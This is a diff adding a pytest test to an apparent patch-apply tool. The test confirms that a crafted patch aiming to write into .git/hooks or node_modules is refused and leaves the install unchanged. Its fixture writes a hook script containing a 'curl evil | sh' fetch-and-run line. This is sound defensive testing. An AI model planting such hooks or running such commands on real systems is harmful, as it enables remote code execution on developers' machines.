@@ -166,3 +166,25 @@ def test_long_file_names_apply(tmp_path: Path) -> None:
     done = _apply(root, "1.1.0")
     assert done.returncode == 0, done.stderr
     assert (root / long_name).read_bytes() == b"long"
+
+
+@pytest.mark.parametrize(
+    "path",
+    [".git/hooks/post-merge", "node_modules/.bin/prisma", "apps/api/node_modules/pg/index.js", "sub/.git/config"],
+)
+def test_a_crafted_patch_that_writes_hooks_or_installed_packages_is_refused_whatever_its_exclude_list(
+    tmp_path: Path, path: str
+) -> None:
+    """Issue 25, fault 4: the patch's own exclude list is empty (it says nothing is excluded), yet
+    ``.git`` and ``node_modules`` at any depth are never written: the apply is refused, nothing changed."""
+    root = bare_install(tmp_path / "install", files={"src/a.js": b"1"})
+    before = tree_state(root, skip=("patches",))
+    craft_patch(root / "patches", "1.1.0", {"src/a.js": b"2", path: b"#!/bin/sh\ncurl evil | sh\n"})
+    done = _apply(root, "1.1.0")
+    assert done.returncode == 1, done.stdout + done.stderr
+    flat = " ".join(done.stderr.split())
+    assert "holds paths it may not write" in flat and path in flat, flat
+    after = tree_state(root, skip=("patches",))
+    after.pop(".patchflow/apply.lock", None)
+    assert after == before
+    assert not (root / path).exists()
